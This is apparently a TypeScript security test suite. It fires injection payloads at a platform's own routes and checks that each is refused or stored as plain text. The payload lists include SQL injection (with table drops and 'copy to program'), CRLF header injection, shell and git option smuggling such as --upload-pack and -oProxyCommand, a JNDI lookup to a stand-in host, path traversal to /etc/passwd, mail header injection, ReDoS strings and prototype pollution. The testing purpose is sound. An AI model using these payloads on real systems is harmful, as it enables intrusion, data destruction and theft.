// Injection: what is data is put where another language would read it as code. Generated from the table of routes for queries, paths and bodies; by
// hand for git's options, mail, SCIM filters and prototypes. Each is refused or taken as the text that it is, within a moment; nothing breaks, nothing
// of another team changes.

import assert from "node:assert/strict";
import { after, test } from "node:test";

import { isAppError } from "#base/app-error.ts";
import { SECOND } from "#base/units.ts";
import { openAnyTestDatabase } from "#platform/db/testing/for-each-engine.ts";
import { parseSourceAddress } from "#platform/egress/source-url.ts";
import { isWantedRefName } from "#platform/git/refs.ts";
import { parseJsonBody } from "#platform/http/json-body.ts";
import type { Route } from "#platform/http/route.ts";
import { checkMail } from "#platform/mail/letter.ts";
import { isSchema } from "#protocol/api/endpoint.ts";
import { isWholeRun } from "#roles/testing/seeded-random.ts";

import { connectProvider } from "./provisioning-house.ts";
import { createVictim, paramsOf, sampleBody, urlOf, VICTIM_DOMAINS, type Answer } from "./victim.ts";

const database = await openAnyTestDatabase({ domains: VICTIM_DOMAINS });
const victim = await createVictim(database);
const { own, other } = victim;
after(async () => {
  await victim.close();
  await database.close();
});
const untouched = await victim.dump(other.teamId);
const tables = await countTables();
let cases = 0;

const SQL = ["' or 1=1 --", "'; drop table teams cascade; --", "1) union select email_sealed from people --", "\\'; select pg_sleep(5); --", "$1", "%' or name_sealed is not null --", "; copy teams to program 'id' --"];
const LINES = ["a\r\nx-injected: 1", "a\nSet-Cookie: strongroom_session=x", "a\r\n\r\n<script>alert(1)</script>", "a%0d%0ax-injected:%201", "a\u2028x-injected: 1", "a\u0000b"];
const SHELL = ["$(touch /tmp/strongroom-injected)", "`id`", "| id", "; id", "&& id", "--upload-pack=touch /tmp/strongroom-injected", "-u", "-oProxyCommand=id", "ext::sh -c id"];
const TEMPLATES = ["${7*7}", "{{constructor.constructor('return 1')()}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "%{7*7}"];
/** What makes a pattern that looks at it twice look at it for ever. */
const SLOW = [`${"a".repeat(50_000)}!`, `${"a.".repeat(25_000)}@`, `${" ".repeat(50_000)}x`, `a@${"a-".repeat(20_000)}.`, `https://${"a/".repeat(20_000)}\\`, `${"(".repeat(20_000)}${")".repeat(20_000)}`];
const PAYLOADS = [...SQL, ...LINES, ...SHELL, ...TEMPLATES, ...SLOW];
const PATHS = ["../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd", "file:///etc/passwd", "C:\\windows\\win.ini", "%00", "a%00.json", "~root", "\\\\evil.example\\share", "con", "' or 1=1 --", "1;select pg_sleep(5)"];

/** One after the other, so that each meets every place in time; all of them in a whole run. */
let next = 0;
function some(payloads: readonly string[], count: number): readonly string[] {
  if (isWholeRun()) return payloads;
  return Array.from({ length: count }, () => payloads[next++ % payloads.length] ?? "");
}

/** Over the network, with a person's session. */
const routes = victim.web.routes.filter(({ access }) => access !== "operator" && access !== "provisioner" && access !== "api-token");

/** Ordinary work is a millisecond's; a bomb takes seconds and more. */
const MOST_MS = 2 * SECOND;

async function attack(route: Route, given: { readonly url?: string; readonly body?: string | Buffer | null; readonly token: string; readonly what: string }): Promise<Answer> {
  const { type, body } = sampleBody(route, own);
  const begun = performance.now();
  const answer = await victim.send({ method: route.endpoint.method, url: given.url ?? urlOf(route, paramsOf(own)), token: given.token, body: given.body ?? body, headers: { "content-type": type ?? undefined } });
  const what = `${route.endpoint.id} ${given.what.slice(0, 60)}: ${answer.status} ${answer.body.slice(0, 300)}`;
  cases++;
  assert.ok(answer.status < 500, what);
  assert.ok(performance.now() - begun < MOST_MS, `${what}: ${performance.now() - begun} ms`);
  assert.equal(answer.headers["x-injected"], undefined, what);
  // In an answer's text it is what was asked to be kept.
  assert.ok(!/strongroom_session=x\b/.test(String(answer.headers["set-cookie"])), what);
  assert.ok(!/root:.*:0:0:|SQLSTATE|syntax error at/.test(`${String(answer.headers["set-cookie"])} ${answer.body}`), what);
  return answer;
}

async function enter({ endpoint }: Route): Promise<string> {
  return endpoint.id.startsWith("visit.") ? victim.signIn(own.people.guest) : victim.signIn(own.people.owner, own.teamId);
}

async function countTables(): Promise<number> {
  return Number((await database?.asOwner("select count(*)::int as count from pg_tables where schemaname = 'public'"))?.[0]?.["count"]);
}

test("each field of each query, filters and orders too, is refused or is only text", async () => {
  for (const route of routes.filter(({ endpoint }) => endpoint.input.query !== "none")) {
    const { query } = route.endpoint.input;
    assert.ok(query !== "none");
    const token = await enter(route);
    for (const field of Object.keys(query.shape)) {
      for (const payload of [...some(SQL, 3), ...some([...LINES, ...SHELL, ...TEMPLATES], 1)]) {
        const answer = await attack(route, { url: `${urlOf(route, paramsOf(own))}?${field}=${encodeURIComponent(payload)}`, token, what: `${field}=${payload}` });
        if (answer.status >= 400) continue;
        // A text to look for: nothing is called so.
        const { items } = JSON.parse(answer.body.startsWith("{") ? answer.body : '{"items":[]}') as { readonly items?: readonly unknown[] };
        assert.deepEqual(items, [], `${route.endpoint.id} ${field}=${payload}`);
      }
    }
  }
});

test("each parameter of each path is refused, and leads to no file", async () => {
  for (const route of routes) {
    const names = [...route.endpoint.path.matchAll(/:([A-Za-z]+)/g)].map(([, name]) => name ?? "");
    const token = await enter(route);
    for (const name of names) {
      for (const payload of some(PATHS, 1)) {
        const answer = await attack(route, { url: urlOf(route, { ...paramsOf(own), [name]: payload }), token, what: `:${name}=${payload}` });
        assert.ok(answer.status >= 400 || route.access === "public", `${route.endpoint.id} :${name}=${payload}: ${answer.status}`);
      }
    }
  }
});

test("each text of each body is refused or is only text", async () => {
  for (const route of routes.filter(({ endpoint }) => isSchema(endpoint.input.body))) {
    const sample = JSON.parse(String(sampleBody(route, own).body)) as Record<string, unknown>;
    const token = await enter(route);
    for (const [field, value] of Object.entries(sample)) {
      if (typeof value !== "string") continue;
      for (const payload of some(PAYLOADS, 2)) await attack(route, { body: JSON.stringify({ ...sample, [field]: payload }), token, what: `${field}=${payload}` });
    }
  }
});

const ADDRESSES = [
  "ext::sh -c id", "ext::sh -c touch% /tmp/strongroom-injected", "fd::17", "file:///etc", "file://localhost/etc", "/etc", "./x", "../x", "--upload-pack=id", "-u", "-oProxyCommand=id", "--exec=id",
  "ssh://-oProxyCommand=id/x", "ssh://git@-oProxyCommand=id/x", "-oProxyCommand=id@example.org:x", "git@example.org:--upload-pack=id;id", "git@example.org:x$(id)", "git@example.org:x`id`", "git@example.org:x;id", "git@example.org:x'y",
  "git://example.org/x", "ftp://example.org/x", "unix:/run/x", "javascript:alert(1)", "data:text/plain,x", "https://user:password@example.org/x", "https://example.org/x#--upload-pack", "https://example.org\\@evil.example/", "https://exa\nmple.org/x",
  "https://example.org/\r\nX: 1", "transport::https://example.org/x", "https::https://example.org/x", "ssh://git@example.org/x y", "ssh://git@example.org/$(id)", "ssh://git@example.org:0/x", "ssh://ro ot@example.org/x",
];

test("no address of a source is an option, a helper, a command or a file", async () => {
  const route = routes.find(({ endpoint }) => endpoint.id === "vault.create");
  assert.ok(route !== undefined);
  const token = await enter(route);
  for (const url of ADDRESSES) {
    assert.throws(() => parseSourceAddress(url), (error) => isAppError(error), url);
    const sample = JSON.parse(String(sampleBody(route, own).body)) as { readonly source: object };
    const answer = await attack(route, { body: JSON.stringify({ ...sample, source: { ...sample.source, url } }), token, what: url });
    assert.ok(answer.status >= 400, `${url}: ${answer.status}`);
  }
});

const REFS = ["--upload-pack=id", "-u", "--exec=id", "main --upload-pack=id", "a..b", "a:b", "a^{commit}", "a~1", "@{upstream}", "../../config", "a\nb", "a\u0000b", "a\\b", "a.lock", "/a", "a/", "a//b", "*", "a?b", "[a]", "$(id) x"];

test("no branch is an option, a path or a formula of git", async () => {
  const route = routes.find(({ endpoint }) => endpoint.id === "vault.create");
  assert.ok(route !== undefined);
  const token = await enter(route);
  for (const ref of REFS) {
    const sample = JSON.parse(String(sampleBody(route, own).body)) as { readonly source: object };
    const answer = await attack(route, { body: JSON.stringify({ ...sample, source: { ...sample.source, ref } }), token, what: ref });
    assert.ok(answer.status >= 400, `${ref}: ${answer.status}`);
    assert.equal(isWantedRefName(`refs/heads/${ref}`), false, ref);
  }
  for (const username of ["--x", "-u", "a:b", "a\r\nb", "a@b", "a/b", ""]) {
    const sample = JSON.parse(String(sampleBody(route, own).body)) as { readonly source: object };
    assert.equal((await attack(route, { body: JSON.stringify({ ...sample, source: { ...sample.source, username } }), token, what: username })).status, 400, username);
  }
});

const ENVELOPES = ["a@example.org\r\nBcc: b@example.org", "a@example.org\nRCPT TO:<b@example.org>", "a@example.org,b@example.org", "a@example.org;b@example.org", "<a@example.org>", "A <a@example.org>", "a@example.org\r\n.\r\nMAIL FROM:<x>", "\"a b\"@example.org> SIZE=1", "a@example.org\u0000", "a@exa\u2028mple.org", "-oQ/tmp@example.org x", "a@[127.0.0.1]\r\nDATA"];
const SUBJECTS = ["Hello\r\nBcc: b@example.org", "Hello\nX: 1", "Hello\r\n\r\nBody", "Hello\u0000", "Hello\u2028X: 1", "Hello\u0085X", "\u001b[2J"];

test("a mail is to one address, about one line, and its text is no command", () => {
  for (const to of ENVELOPES) isRefusedMail({ to });
  for (const subject of SUBJECTS) isRefusedMail({ subject });
  for (const text of ["a\r\n.\r\nQUIT", "a\u0000", "\u001b]0;x\u0007"]) isRefusedMail({ text });
  for (const stopUrl of ["http://example.org/", "https://example.org/>\r\nBcc: x", "javascript:alert(1)", "https://example.org/?a=<b>"]) isRefusedMail({ stopUrl });
  for (const fileName of ["a\r\nX: 1.pdf", 'a";x=".pdf', "../a.pdf", "a/b.pdf", ""]) isRefusedMail({ attachments: [{ fileName, mediaType: "application/pdf", base64: "YQ==" }] });
});

function isRefusedMail(part: object): void {
  cases++;
  assert.throws(() => checkMail({ to: "a@example.org", subject: "A", text: "a", ...part }), (error) => isAppError(error, "mail.invalid"), JSON.stringify(part));
}

const FILTERS = [
  ...SQL.flatMap((payload) => [`userName eq ${JSON.stringify(payload)}`, `userName co ${JSON.stringify(payload)}`]), ...SQL, "userName eq 'a' or 1 eq 1", "1 eq 1", "userName eq \"a\" or true", "userName pr; drop table people", "id in (select id from people)",
  "__proto__ eq \"x\"", "constructor.prototype eq \"x\"", "password eq \"x\"", "userName eq", "userName", "(", ")".repeat(100), "not ".repeat(200) + "userName pr", `${"(".repeat(400)}userName pr${")".repeat(400)}`, `userName eq "${"a".repeat(1100)}"`, "userName eq \"\\u0000\"", "userName eq \"a\" and ".repeat(40),
];

test("a filter of SCIM is parsed, never SQL; what it does not understand it refuses", async () => {
  const provider = await connectProvider(victim, database, { teamId: own.teamId, defaultRole: "viewer" });
  await provider.addUser("ada@example.org");
  const before = await victim.dump(other.teamId);
  for (const filter of FILTERS) {
    await victim.clock.advance(SECOND);
    const begun = performance.now();
    const answer = await provider.send("GET", `/Users?filter=${encodeURIComponent(filter)}`);
    cases++;
    assert.ok(performance.now() - begun < MOST_MS, filter);
    assert.ok(answer.status === 400 || (answer.status === 200 && answer.body["totalResults"] === 0), `${filter}: ${answer.status} ${answer.text}`);
  }
  assert.equal(await victim.dump(other.teamId), before);
});

const POLLUTION = ['{"__proto__":{"x":1}}', '{"a":{"__proto__":{"x":1}}}', '[{"__proto__":null}]', '{"constructor":{"prototype":{"x":1}}}', '{"a":[{"constructor":{}}]}', '{"prototype":1}', '{"\\u005f\\u005fproto__":{"x":1}}', '{"__proto__":[]}'];

test("no body reaches a prototype", async () => {
  for (const text of POLLUTION) {
    cases++;
    assert.throws(() => parseJsonBody(Buffer.from(text)), (error) => isAppError(error, "request.invalid"), text);
  }
  for (const route of routes.filter(({ endpoint }) => isSchema(endpoint.input.body)).slice(0, isWholeRun() ? undefined : 20)) {
    const token = await enter(route);
    const answer = await attack(route, { body: POLLUTION[cases % POLLUTION.length] ?? "", token, what: "prototype" });
    assert.equal(answer.code, "request.invalid", route.endpoint.id);
  }
  assert.deepEqual([Object.keys(Object.prototype), ({} as { readonly x?: number }).x], [[], undefined]);
});

test("nothing of another team has changed, every table is there, and the catalogue's number of cases was tried", async (t) => {
  assert.equal(await victim.dump(other.teamId), untouched);
  assert.equal(await countTables(), tables);
  assert.ok(cases >= 300, String(cases));
  t.diagnostic(`${cases} cases`);
});
